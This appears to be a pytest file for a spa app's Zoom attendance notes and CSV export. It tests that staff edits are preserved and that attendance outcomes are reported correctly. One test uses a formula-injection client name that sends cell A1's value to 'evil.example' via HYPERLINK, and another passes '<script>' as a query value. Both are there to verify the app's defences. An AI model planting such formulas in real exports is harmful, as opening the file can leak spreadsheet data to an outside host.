"""The attendance line written once, staff's corrections kept (issue 29 item 8), the outcome a spa can act on
and the export for no-show fees and bookkeeping (item 9).

Every test delivers Zoom's signed events to an appointment that starts at BASE and lasts an hour, and asserts
what staff see: the notes byte for byte, the widget's text and the CSV.
"""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest
from flask import Flask

from simplespa_zoom.cli import main

from .helpers import add_appointment, get_appointment, line_for, login, sql, with_app_meeting
from .test_presence import (
    ADMITTED,
    BASE,
    ENDED,
    JOINS,
    LEAVES,
    STARTED,
    WAITS,
    clock,
    event,
    poll,
    session,
)
from .test_webhooks import deliver

NOTES = "Bring a towel."
HEADER = "appointment,client,start,outcome,joined,left,minutes\r\n"


@pytest.fixture
def booked(app: Flask):
    """An hour's appointment that started at BASE, with the app's meeting (its line under the staff's text)."""
    return with_app_meeting(app, add_appointment(app, notes=NOTES, start=BASE, duration=60))


def notes_with(app: Flask, appointment, attendance_text: str) -> str:
    return NOTES + "\n" + line_for(app, appointment) + "\n" + attendance_text


def held(client, *steps: tuple[str, float]) -> None:
    for one in session(*steps):
        assert deliver(client, one).status_code == 204


def set_notes(app: Flask, appointment_id: int, text: str) -> None:
    """Staff edit the notes (as the edit form saves them: a new version)."""
    sql(app, "UPDATE appointments SET notes = :n, version = version + 1 WHERE id = :i", n=text, i=appointment_id)


def day_of(app: Flask) -> str:
    return BASE.astimezone(app.config["SPA_TZ"]).date().isoformat()


def start_cell(app: Flask) -> str:
    return BASE.astimezone(app.config["SPA_TZ"]).strftime("%Y-%m-%d %H:%M")


def exported(client, app: Flask) -> str:
    answer = client.get(f"/attendance.csv?from={day_of(app)}&to={day_of(app)}")
    assert answer.status_code == 200, answer.get_data(as_text=True)
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    return answer.get_data(as_text=True)


# --- Item 8: written once; a line staff edited is theirs ----------------------------------------------------------


def test_a_redelivered_end_after_staff_annotated_the_line_adds_no_second_line(app, client, booked) -> None:
    held(client, (STARTED, 0), (JOINS, 1), (LEAVES, 58), (ENDED, 60))
    written = f"Zoom attendance: someone joined {clock(app, 1)}, left {clock(app, 58)} (57 min)"
    assert get_appointment(app, booked.id).notes == notes_with(app, booked, written)
    annotated = notes_with(app, booked, written + " \u2014 paid in full")
    set_notes(app, booked.id, annotated)
    assert deliver(client, event(ENDED, 60)).status_code == 204  # Zoom delivers meeting.ended again
    assert get_appointment(app, booked.id).notes == annotated
    login(client)
    said = f"Attendance as corrected by staff: {written} \u2014 paid in full"
    assert poll(client, booked.id)["attendance"] == said
    assert said in client.get(f"/appointments/{booked.id}").get_data(as_text=True)


def test_a_line_staff_edited_is_never_rewritten_by_a_late_event(app, client, booked) -> None:
    held(client, (STARTED, 0), (ENDED, 60))
    assert get_appointment(app, booked.id).notes == notes_with(app, booked, "Zoom attendance: client did not join")
    corrected = notes_with(app, booked, "Zoom attendance: client joined 6:05 pm, left 6:50 pm (45 min)")
    set_notes(app, booked.id, corrected)  # the client was there on the phone: staff correct the record
    for one in session((JOINS, 3), (LEAVES, 30)):  # and Zoom's late retries come in after
        assert deliver(client, one).status_code == 204
    assert get_appointment(app, booked.id).notes == corrected
    login(client)
    assert poll(client, booked.id)["attendance"] == (
        "Attendance as corrected by staff: Zoom attendance: client joined 6:05 pm, left 6:50 pm (45 min)"
    )


def test_a_late_event_still_corrects_the_apps_own_unedited_line(app, client, booked) -> None:
    held(client, (STARTED, 0), (JOINS, 1), (ENDED, 60))
    late = session((LEAVES, 58))  # the leave came after the end
    assert deliver(client, late[0]).status_code == 204
    text = f"Zoom attendance: someone joined {clock(app, 1)}, left {clock(app, 58)} (57 min)"
    assert get_appointment(app, booked.id).notes == notes_with(app, booked, text)
    assert sql(app, "SELECT text FROM attendance_written WHERE appointment_id = :i", i=booked.id) == [(text,)]


# --- Item 9: what happened, in the line and the export ------------------------------------------------------------

OUTCOMES: dict[str, tuple[list[tuple[str, float]], str, str]] = {
    "attended": (
        [(STARTED, 0), (JOINS, 1), (LEAVES, 58), (ENDED, 60)],
        "someone joined {1}, left {58} (57 min)",
        "attended,{1},{58},57",
    ),
    "late": (
        [(STARTED, 0), (JOINS, 12), (LEAVES, 58), (ENDED, 60)],
        "someone joined {12}, left {58} (46 min); late: arrived 12 min after the start",
        "late (12 min),{12},{58},46",
    ),
    "left early": (
        [(STARTED, 0), (JOINS, 1), (LEAVES, 45), (ENDED, 60)],
        "someone joined {1}, left {45} (44 min); left early: 15 min before the end",
        "left early (15 min before the end),{1},{45},44",
    ),
    "late and left early": (
        [(STARTED, 0), (JOINS, 12), (LEAVES, 45), (ENDED, 60)],
        "someone joined {12}, left {45} (33 min); late: arrived 12 min after the start; "
        "left early: 15 min before the end",
        '"late (12 min), left early (15 min before the end)",{12},{45},33',
    ),
    "kept waiting by a late host is not late": (
        [(WAITS, 1), (STARTED, 10), (ADMITTED, 12), (JOINS, 12), (LEAVES, 58), (ENDED, 60)],
        "someone joined {12}, left {58} (46 min)",
        "attended,{12},{58},46",
    ),
    "the host ended it early": (
        [(STARTED, 0), (JOINS, 1), (ENDED, 40), (LEAVES, 40)],
        "someone joined {1}, left {40} (39 min)",
        "attended,{1},{40},39",
    ),
    "waited but was not admitted": (
        [(STARTED, 0), (WAITS, 2), (ENDED, 60)],
        "client waited but was not admitted",
        "waited but was not admitted,,,",
    ),
    "did not join": ([(STARTED, 0), (ENDED, 60)], "client did not join", "did not join,,,"),
    "the host did not start": (
        [(WAITS, 2), (ENDED, 60)],
        "the host did not start the meeting",
        "the host did not start,,,",
    ),
}


def _filled(app: Flask, template: str) -> str:
    return template.format(*[clock(app, m) for m in range(61)])


@pytest.mark.parametrize("case", list(OUTCOMES))
def test_the_line_and_the_export_say_what_happened(app, client, booked, case: str) -> None:
    steps, line, cells = OUTCOMES[case]
    held(client, *steps)
    text = "Zoom attendance: " + _filled(app, line)
    assert get_appointment(app, booked.id).notes == notes_with(app, booked, text)
    login(client)
    assert poll(client, booked.id)["attendance"] == text
    assert exported(client, app) == HEADER + f"{booked.id},Ana Souza,{start_cell(app)},{_filled(app, cells)}\r\n"


def test_the_export_reads_the_staff_correction_as_the_record(app, client, booked) -> None:
    held(client, (STARTED, 0), (ENDED, 60))
    set_notes(app, booked.id, notes_with(app, booked, "Zoom attendance: client joined 6:05 pm, left 6:50 pm (45 min)"))
    login(client)
    start = start_cell(app)
    row = f"{booked.id},Ana Souza,{start},"
    assert exported(client, app) == HEADER + row + "attended (corrected by staff),6:05 pm,6:50 pm,45\r\n"
    set_notes(app, booked.id, notes_with(app, booked, "Zoom attendance: client did not join (called, fee waived)"))
    assert exported(client, app) == HEADER + row + "did not join (corrected by staff),,,\r\n"
    set_notes(app, booked.id, notes_with(app, booked, "Zoom attendance: she came by phone instead"))
    assert exported(client, app) == HEADER + row + "corrected by staff (see the notes),,,\r\n"
    set_notes(app, booked.id, notes_with(app, booked, "").rstrip("\n"))
    assert exported(client, app) == HEADER + row + "line removed by staff,,,\r\n"


def test_the_export_lists_a_meeting_without_a_line_yet_and_leaves_out_appointments_without_one(app, client) -> None:
    tz = app.config["SPA_TZ"]
    meeting = with_app_meeting(app, add_appointment(app, "Bea Lima", start=BASE))
    add_appointment(app, "In person", start=BASE + timedelta(minutes=5))  # no meeting: not an online session
    login(client)
    start = BASE.astimezone(tz).strftime("%Y-%m-%d %H:%M")
    assert exported(client, app) == HEADER + f"{meeting.id},Bea Lima,{start},no attendance line,,,\r\n"


def test_the_exports_cells_are_never_a_formula(app, client) -> None:
    name = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    appointment = with_app_meeting(app, add_appointment(app, name, start=BASE))
    held(client, (STARTED, 0), (ENDED, 60))
    login(client)
    row = f'{appointment.id},"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",{start_cell(app)}'
    assert exported(client, app) == HEADER + row + ",did not join,,,\r\n"


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_each_formula_start_is_quoted(cell: str) -> None:
    from simplespa_zoom.web.attendance_csv import safe

    assert safe(cell) == "'" + cell and safe("Ana " + cell) == "Ana " + cell


def test_the_export_needs_sign_in(app, client, booked) -> None:
    held(client, (STARTED, 0), (ENDED, 60))
    answer = client.get(f"/attendance.csv?from={day_of(app)}&to={day_of(app)}")
    assert answer.status_code in (302, 401) and "Ana Souza" not in answer.get_data(as_text=True)


DATES = "The attendance export needs two dates, from and to, written as YYYY-MM-DD, from not after to."


@pytest.mark.parametrize(
    ("query", "said"),
    [
        ("", DATES),
        ("from=2026-12-01", DATES),
        ("from=2026-12-01&to=2026-13-01", DATES),
        ("from=20261201&to=20261231", DATES),
        ("from=2026-12-31&to=2026-12-01", DATES),
        ("from=2026-12-01&to=<script>", DATES),
        ("from=2025-01-01&to=2026-01-02", "The attendance export covers at most 366 days at a time."),
    ],
)
def test_the_export_refuses_a_bad_range_and_says_why(app, client, query: str, said: str) -> None:
    login(client)
    answer = client.get(f"/attendance.csv?{query}")
    assert answer.status_code == 400 and answer.get_data(as_text=True) == said
    assert answer.headers["Content-Type"] == "text/plain; charset=utf-8"


def test_a_whole_leap_year_is_one_export(app, client) -> None:
    login(client)
    assert client.get("/attendance.csv?from=2028-01-01&to=2028-12-31").get_data(as_text=True) == HEADER


def test_the_command_prints_the_same_csv(app, client, booked) -> None:
    held(client, (STARTED, 0), (JOINS, 12), (LEAVES, 58), (ENDED, 60))
    login(client)
    args: list[Any] = ["attendance", "--from", day_of(app), "--to", day_of(app)]
    result = app.test_cli_runner().invoke(main, args=args)
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes.decode() == exported(client, app)
    refused = app.test_cli_runner().invoke(main, args=["attendance", "--from", "2026-12-31", "--to", "2026-12-01"])
    assert refused.exit_code != 0 and DATES in refused.output


def test_the_day_list_links_the_export(app, client) -> None:
    login(client)
    page = client.get("/appointments?day=2026-12-08").get_data(as_text=True)
    assert 'action="/attendance.csv"' in page and 'name="from" value="2026-12-01"' in page
    assert 'name="to" value="2026-12-08"' in page and "Attendance export (CSV)" in page


def test_a_line_written_before_the_upgrade_stays_recorded_as_written(database: str) -> None:
    """Revision 0015 carries each attendance line's digest over to the record, under the appointment's meeting:
    the app still knows it wrote that line, so a re-delivered end adds no second one."""
    from datetime import UTC, datetime

    from alembic import command
    from sqlalchemy import text

    from simplespa_zoom.book import Book
    from simplespa_zoom.book.database import _alembic
    from simplespa_zoom.meetings.domain import AppointmentDraft
    from simplespa_zoom.zoom.line_format import ZOOM_LINE_FORMAT

    from .helpers import MEETING_ID

    book = Book.open(database, ZOOM_LINE_FORMAT)
    book.upgrade()
    saved = book.appointments.create(AppointmentDraft("Ana", None, datetime(2026, 12, 1, 20, tzinfo=UTC), 60, ""))
    unrelated = book.appointments.create(AppointmentDraft("Bea", None, datetime(2026, 12, 1, 21, tzinfo=UTC), 60, ""))
    with book.engine.begin() as connection:
        command.downgrade(_alembic(connection), "0012")
        connection.execute(
            text("UPDATE appointments SET zoom_meeting_id = :m WHERE id = :i"), {"m": MEETING_ID, "i": saved.id}
        )
        for key in (saved.id, unrelated.id):  # the second has no meeting recorded: nothing to key it by
            connection.execute(text("INSERT INTO attendance_lines VALUES (:i, 'd1')"), {"i": key})
    book.upgrade()
    written = book.presence.attendance_written([saved.id, unrelated.id])
    assert list(written) == [saved.id] and list(written[saved.id]) == [MEETING_ID]
    assert written[saved.id][MEETING_ID][1:3] == (None, "d1")


def test_a_new_meeting_is_not_shown_the_record_of_the_one_before(app, client, booked) -> None:
    """The record belongs to its meeting: after the app made another meeting for the appointment, the widget
    and the export wait for that meeting's own line."""
    from .helpers import JOIN_URL, MEETING_ID

    held(client, (STARTED, 0), (ENDED, 60))
    login(client)
    assert poll(client, booked.id)["attendance"] == "Zoom attendance: client did not join"
    other = JOIN_URL.replace(str(MEETING_ID), str(MEETING_ID + 1))
    with_app_meeting(app, get_appointment(app, booked.id), meeting_id=MEETING_ID + 1, join_url=other)
    assert poll(client, booked.id)["attendance"] is None
    assert exported(client, app) == HEADER + f"{booked.id},Ana Souza,{start_cell(app)},no attendance line,,,\r\n"


def test_late_and_early_count_from_five_minutes() -> None:
    """The outcome's rule, at its edges: under five minutes is on time."""
    from datetime import UTC, datetime

    from simplespa_zoom.meetings.attendance import Attended, Outcome, Session, Verdict, judge

    start = datetime(2026, 12, 1, 18, tzinfo=UTC)
    end = start + timedelta(hours=1)

    def verdict(joined: timedelta, left: timedelta) -> Verdict:
        attended = Attended(start + joined, start + left, 0, 1)
        return judge(attended, Session(True, False, start + joined, end), start, end)

    assert verdict(timedelta(minutes=4, seconds=59), timedelta(minutes=55, seconds=1)) == Verdict(Outcome.ATTENDED)
    assert verdict(timedelta(minutes=5), timedelta(minutes=55)) == Verdict(Outcome.ATTENDED, 5, 5)
